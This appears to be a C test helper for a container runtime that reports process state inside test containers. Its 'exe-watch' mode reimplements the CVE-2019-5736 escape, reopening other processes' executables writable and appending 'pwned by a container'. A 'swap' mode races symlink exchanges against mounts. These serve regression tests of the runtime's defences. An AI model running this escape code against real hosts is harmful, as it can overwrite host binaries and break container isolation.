/* husk test helper: a small static program run INSIDE test containers to
 * report what the process sees.  Output is "key: value" lines so shell tests
 * can grep them.  No dependency but libc; linked statically so it runs in a
 * busybox-static rootfs.
 *
 *   helper ids       uid, gid (real/effective/saved), groups, umask
 *   helper caps      CapInh/CapPrm/CapEff/CapBnd/CapAmb, NoNewPrivs
 *   helper seccomp   Seccomp mode and filter count
 *   helper fds       open fds and their targets
 *   helper rlimits   every rlimit as soft/hard
 *   helper ns        namespace inode of each /proc/self/ns entry
 *   helper mounts    /proc/self/mountinfo
 *   helper cgroup    /proc/self/cgroup
 *   helper env       the environment
 *   helper cwd       working directory
 *   helper hostname  hostname and domainname
 *   helper exit N    exit with status N
 *   helper sleep N   sleep N seconds
 *   helper wait-signal   print the first signal received, then exit 0
 *   helper try CALL ARGS...  make one syscall, print "CALL: ok" or
 *                    "CALL: errno N" (mkdir PATH, chmod PATH, open PATH,
 *                    write PATH, getpid, uname, personality N)
 *   helper syscall NR...   make each raw syscall NR with all arguments 0 and
 *                    print "NR: ok" or "NR: errno N"; "i386-NR" makes it
 *                    through int $0x80 (the i386 ABI), "x32-NR" as NR with
 *                    bit 30 set (the x32 ABI), on x86_64
 *   helper exe-watch STOPFILE   the CVE-2019-5736 attacker: loop over
  *                    /proc/PID/exe, keep O_PATH fds of every program that is
 *                    not this rootfs's busybox or helper, and keep trying
 *                    to reopen them O_WRONLY through /proc/self/fd/N and
 *                    append to them, until STOPFILE exists; then print
 *                    "grabbed: N" (distinct files held), "written: N" and
 *                    "errno E: N" for each way the reopen failed
 *   helper swap STOPFILE A B [A B ...]   exchange each pair of paths
 *                    (renameat2 RENAME_EXCHANGE) in a loop until STOPFILE
 *                    exists, then print "swaps: N"
 *   helper userns-proc DIR   as an unprivileged process would: a new user,
 *                    mount and pid namespace of its own, then mount a
 *                    procfs on DIR; prints "mount: ok" or "mount: errno N"
 *   helper all       everything above that reads state */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdbool.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/personality.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <sys/utsname.h>
#include <unistd.h>

static void
print_status_lines (const char *const *keys)
{
  FILE *f = fopen ("/proc/self/status", "re");
  if (f == NULL)
    {
      printf ("error: /proc/self/status: %s\n", strerror (errno));
      return;
    }
  char line[512];
  while (fgets (line, sizeof line, f))
    for (const char *const *k = keys; *k; k++)
      if (strncmp (line, *k, strlen (*k)) == 0 && line[strlen (*k)] == ':')
        {
          char *v = line + strlen (*k) + 1;
          v += strspn (v, " \t");
          printf ("%s: %s", *k, v);
        }
  fclose (f);
}

static void
cat_file (const char *path)
{
  FILE *f = fopen (path, "re");
  if (f == NULL)
    {
      printf ("error: %s: %s\n", path, strerror (errno));
      return;
    }
  char buf[4096];
  size_t n;
  while ((n = fread (buf, 1, sizeof buf, f)) > 0)
    fwrite (buf, 1, n, stdout);
  fclose (f);
}

static void
report_ids (void)
{
  uid_t r, e, s;
  gid_t gr, ge, gs;
  getresuid (&r, &e, &s);
  getresgid (&gr, &ge, &gs);
  printf ("uid: %u %u %u\ngid: %u %u %u\n", r, e, s, gr, ge, gs);
  gid_t groups[256];
  int n = getgroups (256, groups);
  printf ("groups:");
  for (int i = 0; i < n; i++)
    printf (" %u", groups[i]);
  printf ("\n");
  mode_t m = umask (0);
  umask (m);
  printf ("umask: %04o\n", m);
}

static void
report_caps (void)
{
  static const char *const keys[] = { "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", NULL };
  print_status_lines (keys);
}

static void
report_seccomp (void)
{
  static const char *const keys[] = { "Seccomp", "Seccomp_filters", NULL };
  print_status_lines (keys);
}

static void
report_fds (void)
{
  DIR *d = opendir ("/proc/self/fd");
  if (d == NULL)
    {
      printf ("error: /proc/self/fd: %s\n", strerror (errno));
      return;
    }
  int self = dirfd (d);
  struct dirent *e;
  while ((e = readdir (d)) != NULL)
    {
      if (e->d_name[0] == '.' || atoi (e->d_name) == self)
        continue;
      char path[300], target[PATH_MAX];
      snprintf (path, sizeof path, "/proc/self/fd/%s", e->d_name);
      ssize_t n = readlink (path, target, sizeof target - 1);
      target[n < 0 ? 0 : n] = '\0';
      printf ("fd %s: %s\n", e->d_name, target);
    }
  closedir (d);
}

static void
report_rlimits (void)
{
  static const struct
  {
    const char *name;
    int res;
  } lim[] = {
    { "RLIMIT_AS", RLIMIT_AS },         { "RLIMIT_CORE", RLIMIT_CORE },         { "RLIMIT_CPU", RLIMIT_CPU },
    { "RLIMIT_DATA", RLIMIT_DATA },     { "RLIMIT_FSIZE", RLIMIT_FSIZE },       { "RLIMIT_LOCKS", RLIMIT_LOCKS },
    { "RLIMIT_MEMLOCK", RLIMIT_MEMLOCK }, { "RLIMIT_MSGQUEUE", RLIMIT_MSGQUEUE }, { "RLIMIT_NICE", RLIMIT_NICE },
    { "RLIMIT_NOFILE", RLIMIT_NOFILE }, { "RLIMIT_NPROC", RLIMIT_NPROC },       { "RLIMIT_RSS", RLIMIT_RSS },
    { "RLIMIT_RTPRIO", RLIMIT_RTPRIO }, { "RLIMIT_RTTIME", RLIMIT_RTTIME },     { "RLIMIT_SIGPENDING", RLIMIT_SIGPENDING },
    { "RLIMIT_STACK", RLIMIT_STACK },
  };
  for (size_t i = 0; i < sizeof lim / sizeof lim[0]; i++)
    {
      struct rlimit rl;
      getrlimit (lim[i].res, &rl);
      printf ("%s: ", lim[i].name);
      if (rl.rlim_cur == RLIM_INFINITY)
        printf ("unlimited ");
      else
        printf ("%llu ", (unsigned long long) rl.rlim_cur);
      if (rl.rlim_max == RLIM_INFINITY)
        printf ("unlimited\n");
      else
        printf ("%llu\n", (unsigned long long) rl.rlim_max);
    }
}

static void
report_ns (void)
{
  static const char *const ns[] = { "cgroup", "ipc", "mnt", "net", "pid", "time", "user", "uts", NULL };
  for (const char *const *n = ns; *n; n++)
    {
      char path[64];
      struct stat st;
      snprintf (path, sizeof path, "/proc/self/ns/%s", *n);
      if (stat (path, &st) == 0)
        printf ("ns %s: %lu\n", *n, (unsigned long) st.st_ino);
      else
        printf ("ns %s: none\n", *n);
    }
}

static void
report_hostname (void)
{
  struct utsname u;
  uname (&u);
  printf ("hostname: %s\ndomainname: %s\n", u.nodename, u.domainname);
}

static void
report_cwd (void)
{
  char buf[PATH_MAX];
  printf ("cwd: %s\n", getcwd (buf, sizeof buf) ? buf : strerror (errno));
}

static int
wait_signal (void)
{
  sigset_t all;
  sigfillset (&all);
  sigprocmask (SIG_BLOCK, &all, NULL);
  printf ("ready\n");
  fflush (stdout);
  int sig = 0;
  sigwait (&all, &sig);
  printf ("signal: %d\n", sig);
  return 0;
}

static int
try_call (int argc, char **argv)
{
  const char *c = argv[2];
  const char *a = argc > 3 ? argv[3] : "/";
  long r;
  struct utsname u;
  errno = 0;
  if (strcmp (c, "mkdir") == 0)
    r = mkdir (a, 0755);
  else if (strcmp (c, "chmod") == 0)
    r = chmod (a, 0755);
  else if (strcmp (c, "open") == 0)
    r = open (a, O_RDONLY);
  else if (strcmp (c, "write") == 0)
    {
      r = open (a, O_WRONLY);
      if (r >= 0)
        r = write ((int) r, "x", 1) == 1 ? 0 : -1;
    }
  else if (strcmp (c, "getpid") == 0)
    r = getpid ();
  else if (strcmp (c, "uname") == 0)
    r = uname (&u);
  else if (strcmp (c, "personality") == 0)
    r = personality ((unsigned long) strtoul (a, NULL, 0));
  else
    {
      fprintf (stderr, "helper: unknown call \"%s\"\n", c);
      return 2;
    }
  if (r < 0)
    printf ("%s: errno %d\n", c, errno);
  else
    printf ("%s: ok\n", c);
  return 0;
}

/* Raw syscalls by number, in the ABI the prefix names (see the top). */
static int
raw_syscalls (int argc, char **argv)
{
  for (int i = 2; i < argc; i++)
    {
      const char *a = argv[i];
      bool i386 = strncmp (a, "i386-", 5) == 0, x32 = strncmp (a, "x32-", 4) == 0;
      char *end;
      errno = 0;
      long nr = strtol (a + (i386 ? 5 : x32 ? 4 : 0), &end, 0);
      if (*end != '\0' || errno != 0 || nr < 0)
        {
          fprintf (stderr, "helper: bad syscall number \"%s\"\n", a);
          return 2;
        }
      long r;
      int e = 0;
      if (i386)
        {
#if defined(__x86_64__)
          /* int $0x80 enters the kernel's i386 ABI (AUDIT_ARCH_I386) and
             returns -errno in eax; ebx..edi are the arguments (old kernels
             clobber r8-r11). */
          int ret;
          __asm__ volatile ("int $0x80" : "=a"(ret) : "a"((int) nr), "b"(0), "c"(0), "d"(0), "S"(0), "D"(0)
                            : "memory", "r8", "r9", "r10", "r11");
          r = ret < 0 && ret > -4096 ? -1 : ret;
          e = ret < 0 && ret > -4096 ? -ret : 0;
#else
          fprintf (stderr, "helper: the i386 ABI is for x86_64 only\n");
          return 2;
#endif
        }
      else
        {
          r = syscall (x32 ? nr | 0x40000000L : nr, 0L, 0L, 0L, 0L, 0L, 0L);
          e = errno;
        }
      if (r < 0)
        printf ("%s: errno %d\n", a, e);
      else
        printf ("%s: ok\n", a);
    }
  return 0;
}

/* The exe watcher (see the top): what a process of a container does to
   overwrite the runtime's binary on the host once the runtime executes it
   in the container. */
#define WATCH_MAX 256
static int
exe_watch (const char *stopfile)
{
  struct stat skip[3];
  int nskip = 0;
  const char *const own[] = { "/proc/self/exe", "/bin/busybox", "/bin/helper" };
  for (int i = 0; i < 3; i++)
    if (stat (own[i], &skip[nskip]) == 0)
      nskip++;
  int held[WATCH_MAX];
  bool done[WATCH_MAX];
  struct stat heldst[WATCH_MAX];
  int nheld = 0, grabbed = 0, written = 0;
  int errs[200] = { 0 };
  printf ("ready\n");
  fflush (stdout);
  while (access (stopfile, F_OK) != 0)
    {
      DIR *d = opendir ("/proc");
      struct dirent *e;
      while (d && (e = readdir (d)) != NULL)
        {
          if (e->d_name[0] < '0' || e->d_name[0] > '9' || atoi (e->d_name) == getpid ())
            continue;
          char path[300];
          snprintf (path, sizeof path, "/proc/%s/exe", e->d_name);
          int fd = open (path, O_PATH | O_CLOEXEC);
          struct stat st;
          if (fd < 0)
            continue;
          int keep = fstat (fd, &st) == 0;
          for (int i = 0; keep && i < nskip; i++)
            keep = !(st.st_dev == skip[i].st_dev && st.st_ino == skip[i].st_ino);
          for (int i = 0; keep && i < nheld; i++)
            keep = !(st.st_dev == heldst[i].st_dev && st.st_ino == heldst[i].st_ino);
          if (!keep || nheld == WATCH_MAX)
            {
              close (fd);
              continue;
            }
          held[nheld] = fd;
          done[nheld] = false;
          heldst[nheld++] = st;
          grabbed++;
        }
      if (d)
        closedir (d);
      for (int i = 0; i < nheld; i++)
        {
          if (done[i])
            continue;
          char path[64];
          snprintf (path, sizeof path, "/proc/self/fd/%d", held[i]);
          int w = open (path, O_WRONLY | O_APPEND | O_CLOEXEC);
          if (w < 0)
            {
              if (errno < 200)
                errs[errno]++;
              continue;
            }
          if (write (w, "pwned by a container\n", 21) == 21)
            written++;
          done[i] = true;
          close (w);
        }
    }
  printf ("grabbed: %d\nwritten: %d\n", grabbed, written);
  for (int i = 0; i < 200; i++)
    if (errs[i])
      printf ("errno %d: %d\n", i, errs[i]);
  return 0;
}

/* The racer of the mount tests: a directory and a symlink trade places as
   fast as the kernel allows. */
static int
swap_loop (int argc, char **argv)
{
  long n = 0;
  printf ("ready\n");
  fflush (stdout);
  while (access (argv[2], F_OK) != 0)
    for (int i = 3; i + 1 < argc; i += 2)
      if (syscall (SYS_renameat2, AT_FDCWD, argv[i], AT_FDCWD, argv[i + 1], 2 /* RENAME_EXCHANGE */) == 0)
        n++;
  printf ("swaps: %ld\n", n);
  return 0;
}

static int
write_file (const char *path, const char *s)
{
  int fd = open (path, O_WRONLY);
  int r = fd < 0 ? -1 : (write (fd, s, strlen (s)) == (ssize_t) strlen (s) ? 0 : -1);
  if (fd >= 0)
    close (fd);
  return r;
}

static int
userns_proc (const char *dir)
{
  char map[64];
  uid_t uid = geteuid ();
  gid_t gid = getegid ();
  if (unshare (CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID) < 0)
    {
      printf ("unshare: errno %d\n", errno);
      return 0;
    }
  /* Not 0: mapping the new namespace's root to ours wants CAP_SETFCAP. */
  snprintf (map, sizeof map, "1 %u 1", uid);
  if (write_file ("/proc/self/setgroups", "deny") < 0 || write_file ("/proc/self/uid_map", map) < 0)
    {
      printf ("uid_map: errno %d\n", errno);
      return 0;
    }
  snprintf (map, sizeof map, "1 %u 1", gid);
  if (write_file ("/proc/self/gid_map", map) < 0)
    {
      printf ("gid_map: errno %d\n", errno);
      return 0;
    }
  pid_t pid = fork ();
  if (pid == 0)
    {
      if (mount ("proc", dir, "proc", 0, NULL) < 0)
        printf ("mount: errno %d\n", errno);
      else
        printf ("mount: ok\n");
      fflush (stdout);
      _exit (0);
    }
  int st;
  waitpid (pid, &st, 0);
  return 0;
}

int
main (int argc, char **argv)
{
  extern char **environ;
  const char *what = argc > 1 ? argv[1] : "all";
  if (strcmp (what, "ids") == 0)
    report_ids ();
  else if (strcmp (what, "caps") == 0)
    report_caps ();
  else if (strcmp (what, "seccomp") == 0)
    report_seccomp ();
  else if (strcmp (what, "fds") == 0)
    report_fds ();
  else if (strcmp (what, "rlimits") == 0)
    report_rlimits ();
  else if (strcmp (what, "ns") == 0)
    report_ns ();
  else if (strcmp (what, "mounts") == 0)
    cat_file ("/proc/self/mountinfo");
  else if (strcmp (what, "cgroup") == 0)
    cat_file ("/proc/self/cgroup");
  else if (strcmp (what, "env") == 0)
    for (char **e = environ; *e; e++)
      printf ("env: %s\n", *e);
  else if (strcmp (what, "cwd") == 0)
    report_cwd ();
  else if (strcmp (what, "hostname") == 0)
    report_hostname ();
  else if (strcmp (what, "exit") == 0 && argc > 2)
    return atoi (argv[2]);
  else if (strcmp (what, "sleep") == 0 && argc > 2)
    sleep ((unsigned) atoi (argv[2]));
  else if (strcmp (what, "wait-signal") == 0)
    return wait_signal ();
  else if (strcmp (what, "try") == 0 && argc > 2)
    return try_call (argc, argv);
  else if (strcmp (what, "syscall") == 0 && argc > 2)
    return raw_syscalls (argc, argv);
  else if (strcmp (what, "userns-proc") == 0 && argc > 2)
    return userns_proc (argv[2]);
  else if (strcmp (what, "swap") == 0 && argc > 4)
    return swap_loop (argc, argv);
  else if (strcmp (what, "exe-watch") == 0 && argc > 2)
    return exe_watch (argv[2]);
  else if (strcmp (what, "all") == 0)
    {
      report_ids ();
      report_caps ();
      report_seccomp ();
      report_rlimits ();
      report_ns ();
      report_hostname ();
      report_cwd ();
      report_fds ();
    }
  else
    {
      fprintf (stderr, "helper: unknown request \"%s\"\n", what);
      return 2;
    }
  return 0;
}
